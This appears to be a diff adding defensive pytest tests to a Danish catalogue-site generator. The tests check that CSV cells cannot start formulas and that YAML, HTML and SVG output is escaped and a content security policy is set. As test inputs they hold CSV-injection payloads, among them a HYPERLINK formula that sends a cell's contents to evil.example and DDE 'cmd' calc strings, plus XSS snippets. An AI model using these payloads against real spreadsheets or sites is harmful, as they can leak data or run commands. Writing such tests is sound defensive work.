@@ -3,11 +3,14 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
+import re
 import subprocess
 
 import pytest
+import yaml
 
 from katalog import export, pages, render
 from katalog.markdown_safety import is_safe_url
@@ -58,6 +61,53 @@ def test_csv_has_bom_and_one_row_per_initiative() -> None:
     assert rows[1][rows[0].index("organisationer")] == "Roskilde Kommune (kommune) | Beredskabet (beredskab)"
 
 
+def test_csv_cells_cannot_start_a_formula() -> None:
+    """OWASP's rule: a cell starting with = + - @, a tab or a carriage return gets a leading quote mark."""
+    catalogue = _catalogue()
+    item = catalogue.initiatives[0]
+    formula = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
+    hostile: dict[str, object] = {
+        "name": formula,
+        "summary": "+1+cmd|' /C calc'!A0",
+        "municipalities": ["-2+3", "Roskilde"],
+        "housing_areas": ["@SUM(1+1)*cmd|' /C calc'!A0"],
+        "venues": ["\t=1+1"],
+    }
+    changed = item.model_copy(update=hostile)
+    raw = export.files(dataclasses.replace(catalogue, initiatives=[changed]))[export.CSV_NAME]
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
+    header, row = rows[0], rows[1]
+    assert row[header.index("navn")] == "'" + formula
+    assert row[header.index("resumé")] == "'+1+cmd|' /C calc'!A0"
+    assert row[header.index("kommuner")] == "'-2+3 | Roskilde"
+    assert row[header.index("boligområder")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row[header.index("steder")] == "'\t=1+1"
+    assert b"\n=HYPERLINK" not in raw and b";=" not in raw and b';"=' not in raw
+    starts = [cell[:1] for r in rows[1:] for cell in r]
+    assert not set(starts) & set(export.FORMULA_STARTS)
+    assert [export.text_cell(v) for v in ("\r=1", "\t@x", "\uff1d1+1", "Roskilde", "", "12 pct.")] == [
+        "'\r=1",
+        "'\t@x",
+        "'\uff1d1+1",
+        "Roskilde",
+        "",
+        "12 pct.",
+    ]
+
+
+def test_front_matter_holds_any_title() -> None:
+    """A title YAML cannot hold raw (C1 controls, a line separator) is escaped, so MkDocs reads it back."""
+    for title in ['Navn "x" <b>', "a\x85b\u2028c\x7fd", "--- \n...", "x: y # z", "{: onclick=alert(1) }"]:
+        front = pages._yaml_str(title)
+        assert "\n" not in front
+        assert yaml.safe_load(f"title: {front}") == {"title": pages.esc(render.one_line(title))}
+
+
+def test_edit_link_path_cannot_end_its_code_span() -> None:
+    link = pages.EditLink(None, "x`<img src=x onerror=alert(1)>`.yaml", 1, 2)
+    assert link.markdown() == ("Posten står i <code>x`&lt;img src=x onerror=alert(1)&gt;`.yaml, linje 1–2</code>.")
+
+
 def test_json_keeps_every_field() -> None:
     catalogue = _catalogue()
     data = json.loads(export.files(catalogue)[export.JSON_NAME])
@@ -68,7 +118,7 @@ def test_json_keeps_every_field() -> None:
 
 def test_edit_link_without_repository_names_the_lines() -> None:
     link = pages.EditLink(None, "data/initiatives.yaml", 12, 40)
-    assert link.markdown() == "Posten står i `data/initiatives.yaml, linje 12–40`."
+    assert link.markdown() == "Posten står i <code>data/initiatives.yaml, linje 12–40</code>."
     assert EDIT.markdown() == (
         "[Se posten i data/initiatives.yaml (linje 3–72)]"
         "(https://github.com/eksempel/katalog/blob/main/data/initiatives.yaml#L3-L72)"
@@ -118,7 +168,9 @@ def test_unsafe_link_targets(url: str, safe: bool) -> None:
 
 def test_text_fields_cannot_become_markup() -> None:
     assert pages.md("<b>*x*</b> [a](b)") == r"&lt;b&gt;\*x\*&lt;/b&gt; \[a\]\(b\)"
-    assert pages.md_block("## Titel\n<script>x</script>") == "### Titel\n&lt;script>x&lt;/script>"
+    assert pages.md_block("## Titel\n\n<script>x</script>") == (
+        '<div class="katalog-md">\n<h3>Titel</h3>\n<p>&lt;script&gt;x&lt;/script&gt;</p>\n</div>'
+    )
     chart = render.Chart("A<b>", "pct.", (render.Bar("</text><script>", 40, "40 pct.", True),))
     svg = render.chart_svg(chart)
     assert "<script>" not in svg and "&lt;/text&gt;&lt;script&gt;" in svg
@@ -146,3 +198,30 @@ def test_no_generated_page_is_committed() -> None:
         check=True,
     ).stdout.split()
     assert tracked == ["docs/cases/.gitkeep"]
+
+
+def test_content_security_policy() -> None:
+    from katalog import mkdocs_hooks
+
+    policy = mkdocs_hooks.content_security_policy()
+    assert policy == (
+        "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; "
+        "font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'"
+    )
+    assert "'unsafe-inline'" in mkdocs_hooks.content_security_policy(preview=True)
+    page = (
+        '<script src="a.js"></script><script id="__config" type="application/json">{}</script>'
+        "<p>&lt;script&gt;</p><SCRIPT>alert(1)</SCRIPT><script type=module>x</script>"
+    )
+    assert mkdocs_hooks.inline_scripts(page) == ["<SCRIPT>", "<script type=module>"]
+
+
+def test_material_inline_scripts_are_files() -> None:
+    """Each override that replaces one of Material's inline scripts names a file that exists."""
+    overrides = ROOT / "overrides" / "partials" / "javascripts"
+    for template in overrides.glob("*.html"):
+        text = template.read_text(encoding="utf-8")
+        assert "<script>" not in text, template.name
+        for name in re.findall(r"'assets/javascripts/([\w-]+\.js)'", text):
+            assert (ROOT / "docs" / "assets" / "javascripts" / name).is_file(), name
+    assert "Content-Security-Policy" in (ROOT / "overrides" / "main.html").read_text(encoding="utf-8")
